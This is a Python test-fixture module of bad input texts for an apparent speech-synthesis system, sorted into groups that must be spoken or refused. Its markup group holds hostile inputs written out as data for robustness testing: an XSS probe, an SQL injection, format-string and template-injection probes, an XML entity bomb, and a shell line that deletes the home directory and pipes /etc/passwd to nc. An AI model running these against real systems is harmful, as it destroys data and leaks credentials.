"""Texts that people and programs hand in by mistake or to do harm, each with what has to become of it.

SPOKEN: it comes to at least one segment. REFUSED: a TextError with a reason.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

SPOKEN, REFUSED = True, False


@dataclass(frozen=True)
class BadText:
    """A text, and whether it is spoken in every language."""

    name: str
    text: str
    spoken: bool


def _words(count: int, length: int = 5) -> str:
    letters = "etaoinshrdlucmfwypvbgkqjxz"
    return " ".join(letters[(7 * i) % 20 : (7 * i) % 20 + length].ljust(length, "a") for i in range(count))


EMPTY = {
    "nothing": "",
    "a space": " ",
    "spaces": " " * 5000,
    "tabs and line ends": "\t\n\r\n\v\f\n",
    "no-break spaces": "\u00a0\u202f",
    "ideographic spaces": "\u3000" * 20,
    "line and paragraph separators": "\u2028\u2029",
    "line ends": "\n" * 20_000,
}
SYMBOLS = {
    "stops": "... ... !!! ???",
    "one stop": ".",
    "stars": "* * *",
    "dashes": "— – - ―" * 50,
    "brackets": "[]{}()<>",
    "emoji": "😀🎉👩‍👩‍👧‍👦🏳️‍🌈",
    "currency": "€ $ £ ¥",
    "mathematics": "∑ ∫ √ ∞ ≠",
    "box drawing": "┌──┐│└┘" * 100,
    "quotes": "“”‘’«»\"'",
    "arrows": "→ ← ↔",
    "combining marks": "\u0301\u0302\u0303" * 30,
    "many stops": "." * 20_000,
    "braille": "⠓⠑⠇⠇⠕",
    "CJK marks": "。、「」・…",
    "circled letters": "Ⓗⓔⓛⓛⓞ ⓦⓞⓡⓛⓓ",
    "dots of a table": ". . . . . " * 200,
    "tags alone": "[pause:1][pause:2]",
}
INVISIBLE = {
    "NUL": "\0",
    "all C0": "".join(map(chr, range(32))),
    "all C1": "".join(map(chr, range(0x7F, 0xA0))),
    "bidi controls": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "zero-width": "\u200b\u200c\u200d\u2060\ufeff",
    "a high surrogate": "\ud800",
    "surrogates the wrong way round": "\udc00\ud800",
    "private use": "\ue000\U000f0000",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "variation selectors": "\ufe0f" * 40,
    "language tags": "\U000e0041\U000e007f",
    "soft hyphens": "\u00ad" * 30,
    "escape sequences": "\x1b[\x1b]\x07",
    "unassigned": "\u0378\u0379",
}
MIXED_IN = {
    "NUL inside": "Hel\0lo wor\0ld.",
    "escape sequences inside": "\x1b[31mHello\x1b[0m \x1b]0;title\x07world.",
    "bidi inside": "Hello \u202edlrow\u202c and \u2066more\u2069.",
    "zero-width inside": "H\u200be\u200bl\u200bl\u200bo there.",
    "a lone high surrogate inside": "Hello \ud83d world.",
    "a lone low surrogate inside": "Hello \ude00 world.",
    "bytes that were no UTF-8": "Caf\udce9 au lait.",
    "BOMs inside": "\ufeffHello\ufeff world.",
    "backspaces": "Hellp\b\bo world.",
    "vertical tabs and form feeds": "Hello\vworld.\fNext page.",
    "carriage returns": "Hello\rworld.\r\rGood day.",
    "line separators": "Hello\u2028world.\u2029Good day.",
    "replacement characters": "Caf\ufffd \ufffd\ufffd noir.",
    "every letter with three marks": "".join(c + "\u0334\u035c\u0489" for c in "Hello there everybody"),
    "an object replacement": "Hello \ufffc world.",
    "emoji and words": "Great 👍🏽 job 👩‍🚀🚀 today 🇩🇪!",
    "full width": "Ｈｅｌｌｏ　ｗｏｒｌｄ！",
    "mathematical letters": "𝓗𝓮𝓵𝓵𝓸 𝔴𝔬𝔯𝔩𝔡",
    "small capitals": "ʜᴇʟʟᴏ ᴡᴏʀʟᴅ",
    "homoglyphs": "Неllо wоrld, раураl.",
    "ligatures": "ﬁne ofﬁce ﬂow",
}
SCRIPTS = {
    "mixed scripts": "Hello Привет 你好 こんにちは 안녕하세요 مرحبا नमस्ते שלום γειά สวัสดี",
    "Thai": "สวัสดีครับ ยินดีที่ได้รู้จัก",
    "Hebrew": "שלום עולם, מה שלומך היום?",
    "Greek": "Καλημέρα κόσμε, τι κάνεις;",
    "Georgian": "გამარჯობა მსოფლიო",
    "Armenian": "Բարեւ աշխարհ",
    "Ethiopic": "ሰላም ልዑል",
    "Tamil": "வணக்கம் உலகம்",
    "Cherokee": "ᎣᏏᏲ ᎡᎶᎯ",
    "runes": "ᚺᛖᛚᛚᛟ",
    "cuneiform": "𒀀𒁀𒂀 𒃲",
    "Egyptian": "𓀀𓁐𓂋",
    "rare Han": "𠀀𠀁𠀂𪚥",
    "Jamo": "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "every script in one word": "aбגდ한中नあกα",
    "German": "Straßenbahnhaltestelle übermäßig schön, daß ich es weiß.",
    "Russian": "Съешь ещё этих мягких французских булок, да выпей чаю.",
    "Chinese": "今天天气很好，我们去公园散步吧。",
    "Arabic": "صباح الخير، كيف حالك اليوم؟",
    "right to left with numbers": "بين 10 و 20 كتابا (ISBN 978-3)",
}
NUMBERS = {
    "only digits": "1234567890",
    "400 digits": "9" * 400,
    "Arabic digits": "١٢٣٤٥٦٧٨٩٠",
    "Devanagari digits": "१२३४५",
    "superscripts": "x²³⁴ ½ ⅔",
    "Roman numerals": "Ⅷ Ⅻ ↂ",
    "a huge exponent": "1e999999999 2E-999999999",
    "dates": "31.12.9999 00:00:00",
    "money": "$1,234,567,890.99 € 0,00",
    "NaN": "NaN Infinity -inf",
    "number after number": "1 2 3 " * 500,
    "phone": "+49 (0)30/123-456-78 90",
    "an IP": "192.168.0.1:8080 ::1 fe80::1%eth0",
    "circled digits": "①②③",
    "digits of all scripts": "1١१๑１𝟙",
    "ordinals": "1st 2nd 3rd 4th 111th º ª",
}
LONG = {
    "400 words without a stop": _words(400),
    "one sentence of 5,000 words": _words(5000) + ".",
    "20,000 Han": "字" * 20_000,
    "20,000 kana": "あ" * 20_000,
    "a long hyphenated word": "-".join(["wort"] * 400),
    "a long path": "/".join(["folder"] * 300),
    "a long address": "https://example.org/" + "a-b_c?d=e&" * 200,
    "a long mail address": "a" * 64 + "@" + "b." * 60 + "org",
    "hex": "deadbeef0123" * 60,
    "base64": "aGVsbG8gd29ybGQh" * 100 + "==",
    "A, B, A, B": "a, b, " * 2000,
    "one-letter words": "a b c d e " * 2000,
    "a zoo of stops": "a.b!c?d;e:f,g" * 300,
    "20,000 line ends and a word": "\n" * 20_000 + "Hello.",
    "words far apart": "Hello." + " " * 20_000 + "World.",
    "2,000 paragraphs": "Hi.\n\n" * 2000,
    "joined letters": "a\u200d" * 1000,
    "Thai without spaces": "สวัสดีครับ" * 200,
}
LONG_WORDS = {
    "20,000 letters": "a" * 20_000,
    "a word that makes 400 tokens": "qxz" * 200,
    "a word of 400 syllables": "kajozu" * 400,
    "camel case": "ThisIsOneWord" * 100,
    "underscores": "this_is_one_word_" * 100,
    "alternating cases": "aB" * 2000,
    "a thousand combining marks": "H" + "\u0301" * 1000 + "ello.",
    "a word among words": "Hello " + "x" * 400 + " world.",
    "a word of modifier letters": "ʰʷʲ" * 200,
}
MARKUP = {
    "HTML": "<script>alert(1)</script><b>Hello</b> &amp; &lt;world&gt;",
    "unclosed tags": "<p><p><p>Hello" + "<div>" * 500,
    "nested brackets": "[" * 3000 + "Hello" + "]" * 3000,
    "brackets that open": "[pause:" * 2000 + " Hello",
    "braces": "{" * 2000 + "Hello",
    "a Markdown bomb": "*" * 5000 + "Hello" + "_" * 5000,
    "LaTeX": r"\frac{a}{b} \sum_{i=0}^n x_i",
    "SQL": "'; DROP TABLE voices; --",
    "a shell line": "$(rm -rf ~) `id` ; cat /etc/passwd | nc x 1 && true",
    "format strings": "%s %n %x {0} {} {self.__class__} ${HOME}",
    "JSON": '{"a": [1, null, true], "b": "\\u0000"}',
    "Python": "def f(x): return x if x else __import__('os')",
    "an XML bomb": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    "a template": "{{ 7 * 7 }} {% raw %} <%= x %>",
    "quotes without an end": '"' * 999 + "Hello",
    "apostrophes": "'" * 2000 + "s",
    "a regular expression": r"(a+)+$ .*.*.*=.*",
    "many a and a mark": "a" * 60 + "!" * 5000,
    "backslashes": "\\" * 5000 + "Hello",
    "escapes as text": r"\x00 \u202e \n \033[31m",
    "special tokens": "[START] [STOP] [UNK] [SPACE] <s> </s> <|endoftext|> [en]",
    "pauses and words": "[pause:1]Hello[pause:60] world.",
    "pauses in heaps": "[pause:1]" * 3000 + "Hello.",
    "speeds in heaps": "[speed:0.9]a [speed]" * 500,
    "languages in heaps": "[language:de]ja [language:fr]oui [language] " * 200,
}
ASKS_TOO_MUCH = {
    "a pause of a year": "Hello [pause:999999] world.",
    "no such language": "[language:klingon] Hello.",
    "a speed of nothing": "[speed:0]Hello.",
    "a speed that is no number": "[speed:NaN] Hello.",
}
_ALL = (
    (EMPTY, REFUSED),
    (SYMBOLS, REFUSED),
    (INVISIBLE, REFUSED),
    (MIXED_IN, SPOKEN),
    (SCRIPTS, SPOKEN),
    (NUMBERS, SPOKEN),
    (LONG, SPOKEN),
    (LONG_WORDS, REFUSED),
    (MARKUP, SPOKEN),
    (ASKS_TOO_MUCH, REFUSED),
)

TEXTS = tuple(
    itertools.chain.from_iterable(
        (BadText(name, text, spoken) for name, text in group.items()) for group, spoken in _ALL
    )
)
LANGUAGES = ("en", "de", "ru", "ar", "zh-cn", "ja", "hi")
